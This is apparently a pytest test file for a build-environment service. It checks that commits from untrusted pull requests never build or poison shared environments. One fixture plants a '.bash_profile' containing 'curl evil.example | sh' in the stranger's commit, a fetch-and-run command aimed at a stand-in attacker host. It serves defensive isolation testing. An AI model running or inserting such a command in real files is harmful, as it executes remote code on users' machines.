"""Commits that a stranger may have made. They use shared environments but never build one."""

import pytest

from bindery.domain.environment import EnvironmentState, Identity, Scope
from bindery.domain.errors import BinderyError, HostLimited, HostUnreachable
from bindery.domain.failure import Failure
from bindery.domain.launch import Launch, Stage
from bindery.state.environment_keys import KEPT_SECONDS, UNKNOWN_SECONDS
from bindery.usecases.steps.claim_environment import ClaimEnvironment
from bindery.usecases.steps.identify_environment import IdentifyEnvironment
from bindery.usecases.steps.know_commit import KnowCommit
from tests.fakes.host import COMMIT
from tests.fakes.in_memory_system import Small
from tests.fakes.many import REPOSITORY

STRANGERS = "e" * 40
PULL = "o/r/pull/1/head"
BY_ID = f"o/r/{STRANGERS}"
SILENT = (HostUnreachable(host="host.example", why="no answer"), HostLimited(host="host.example", at=1))


def with_pull_request(*, own_refs_only: bool = False) -> Small:
    """Return a system with a pull request that leaves the configuration files unchanged."""
    small = Small(own_refs_only=own_refs_only)
    small.host.heads["o/r/pull/1"] = STRANGERS
    small.host.files[STRANGERS] = {**(small.host.files[COMMIT] or {}), ".bash_profile": b"curl evil.example | sh\n"}
    return small


@pytest.fixture
def small() -> Small:
    return with_pull_request()


def stage(small: Small, launch: Launch) -> Stage:
    return small.launch(launch).stage


def test_a_strangers_commit_does_not_build_what_the_branch_runs_in(small: Small) -> None:
    strangers, own = small.ready(PULL), small.ready()
    assert strangers.environment != own.environment
    assert [(order.repository.ref, order.scope) for order in small.builds.started] == [
        (STRANGERS, "commit"),
        (COMMIT, "files"),
    ]


@pytest.mark.parametrize("spec", [PULL, BY_ID])
def test_a_strangers_commit_uses_the_shared_environment_that_is_there_and_its_host_is_not_asked(
    small: Small, spec: str
) -> None:
    own, strangers = small.ready(), small.ready(spec)
    assert (strangers.environment, strangers.image) == (own.environment, own.image)
    assert len(small.builds.started) == 1
    assert small.host.looked_up == []


def test_a_strangers_commit_waits_for_the_shared_environment_that_is_being_built(small: Small) -> None:
    own, strangers = small.open(), small.open(PULL)
    small.build()
    assert len(small.builds.started) == 1
    assert (stage(small, own), stage(small, strangers)) == (Stage.READY, Stage.READY)
    assert small.host.looked_up == []


def test_a_strangers_commit_does_not_try_a_failed_shared_environment_again(small: Small) -> None:
    launch = small.open()
    small.pump()
    small.builds.stop(f"{small.launch(launch).environment}-1")
    small.pump()
    assert small.ready(PULL).environment != small.launch(launch).environment
    assert [order.attempt for order in small.builds.started] == [1, 1]


def test_a_strangers_commit_does_not_build_again_what_its_registry_has_lost(small: Small) -> None:
    own = small.ready()
    small.builds.images.clear()
    strangers = small.ready(PULL)
    assert strangers.environment != own.environment
    assert small.builds.started[-1].repository.ref == STRANGERS
    assert small.ready().environment == own.environment


def test_a_launch_whose_image_is_gone_at_its_start_does_not_have_a_shared_one_built(small: Small) -> None:
    own = small.ready()
    strangers = small.open(PULL)
    small.handle(small.queue.pop())
    small.launcher.gone.add(own.image)
    small.builds.images.clear()
    small.build()
    now = small.launch(strangers)
    assert now.stage is Stage.READY
    assert now.environment != own.environment


def test_a_launch_whose_shared_build_is_lost_goes_on_with_a_build_of_its_own(small: Small) -> None:
    own, strangers = small.open(), small.open(PULL)
    small.pump()
    shared = small.launch(own).environment
    assert small.launch(strangers).environment == shared
    small.system.stop_launch(own.id)
    small.pump()
    del small.builds.reports[f"{shared}-1"]
    small.system.reconcile(ahead=10_000)
    small.build()
    now = small.launch(strangers)
    assert (now.stage, small.builds.started[-1].repository.ref) == (Stage.READY, STRANGERS)
    assert now.environment != shared


def test_a_prebuild_of_a_strangers_commit_is_no_exception(small: Small) -> None:
    launch = small.open(PULL, build_only=True)
    small.build()
    environment = small.system.state.environments.find(small.launch(launch).environment)
    assert environment
    assert environment.scope is Scope.COMMIT


def test_the_environment_of_a_strangers_commit_is_used_again_and_the_host_is_not(small: Small) -> None:
    first = small.ready(PULL)
    small.clock.advance(UNKNOWN_SECONDS + 1)
    second = small.ready(PULL)
    assert (second.environment, len(small.builds.started)) == (first.environment, 1)
    assert small.host.looked_up == [STRANGERS]


def test_a_commit_by_its_id_builds_for_all_once_its_host_says_that_a_branch_has_it(small: Small) -> None:
    small.host.own.add(STRANGERS)
    launch = small.ready(BY_ID)
    assert small.builds.started[0].scope == "files"
    assert small.builds.started[0].repository.on_branch_or_tag
    small.builds.images.clear()
    small.clock.advance(KEPT_SECONDS - 1)
    assert small.ready(BY_ID).environment == launch.environment
    assert small.host.looked_up == [STRANGERS]
    small.builds.images.clear()
    small.clock.advance(2)
    small.ready(BY_ID)
    assert small.host.looked_up == [STRANGERS, STRANGERS]


def test_a_commit_that_was_a_branchs_newest_is_known_by_its_id_when_the_branch_has_moved_on(small: Small) -> None:
    small.ready()
    small.host.heads["o/r"] = "d" * 40
    small.builds.images.clear()
    small.ready(f"o/r/{COMMIT}")
    assert small.builds.started[-1].scope == "files"
    assert small.host.looked_up == []


def test_that_a_commit_is_on_no_branch_is_forgotten_soon(small: Small) -> None:
    small.ready(PULL)
    small.builds.images.clear()
    small.host.own.add(STRANGERS)  # the pull request is merged
    small.ready(PULL)
    assert small.builds.started[-1].scope == "commit"
    small.builds.images.clear()
    small.clock.advance(UNKNOWN_SECONDS + 1)
    small.ready(PULL)
    assert small.builds.started[-1].scope == "files"


@pytest.mark.parametrize("trouble", SILENT)
def test_a_host_that_does_not_answer_counts_as_one_that_says_no_and_that_is_not_kept(
    small: Small, trouble: BinderyError
) -> None:
    small.host.own.add(STRANGERS)
    small.host.silent = trouble
    small.ready(BY_ID)
    assert small.builds.started[-1].scope == "commit"
    small.builds.images.clear()
    small.host.silent = None
    small.ready(BY_ID)
    assert small.builds.started[-1].scope == "files"


def test_a_private_repository_is_built_for_each_commit_and_its_host_is_not_asked(small: Small) -> None:
    private = small.host.resolve(PULL).repository.model_copy(update={"private": True})
    state, builds = small.system.state, small.builds
    know_commit = KnowCommit(state.commits)
    identify = IdentifyEnvironment(builds, state.commits)
    claim = ClaimEnvironment(state.environments, identify, know_commit, builds, state.claims)
    assert claim(small.host, private, small.open(PULL)).scope is Scope.COMMIT
    assert small.host.looked_up == []


def test_a_shared_environment_cannot_be_claimed_for_a_commit_that_is_not_known() -> None:
    environments = Small().system.state.environments
    identity = Identity.of(Scope.TREE, {"tree": "1"})
    with pytest.raises(ValueError, match="may not build"):
        environments.claim(
            identity, REPOSITORY.model_copy(update={"on_branch_or_tag": False}), "a launch", lambda _: True
        )
    assert environments.find(identity.key) is None
    assert environments.claim(identity, REPOSITORY, "a launch", lambda _: True).state is EnvironmentState.BUILDING


def test_only_own_refs_a_strangers_commit_is_refused_although_its_environment_is_there() -> None:
    small = with_pull_request(own_refs_only=True)
    small.ready()
    launch = small.open(PULL)
    small.pump()
    failure = small.launch(launch).failure
    assert failure
    assert (failure.kind, failure.facts["ref"]) == ("ForeignCommit", STRANGERS)
    assert len(small.builds.started) == 1


def test_only_own_refs_a_commit_by_its_id_is_launched_if_a_branch_has_it() -> None:
    small = with_pull_request(own_refs_only=True)
    small.host.own.add(STRANGERS)
    small.ready(BY_ID)
    small.ready(BY_ID)
    assert small.host.looked_up == [STRANGERS]


def test_only_own_refs_a_host_that_does_not_answer_is_asked_again_and_then_named() -> None:
    small = with_pull_request(own_refs_only=True)
    small.host.silent = SILENT[0]
    launch = small.open(PULL)
    small.pump()
    failure = small.launch(launch).failure
    assert failure == Failure.of(SILENT[0])
    assert len(small.host.looked_up) == 3
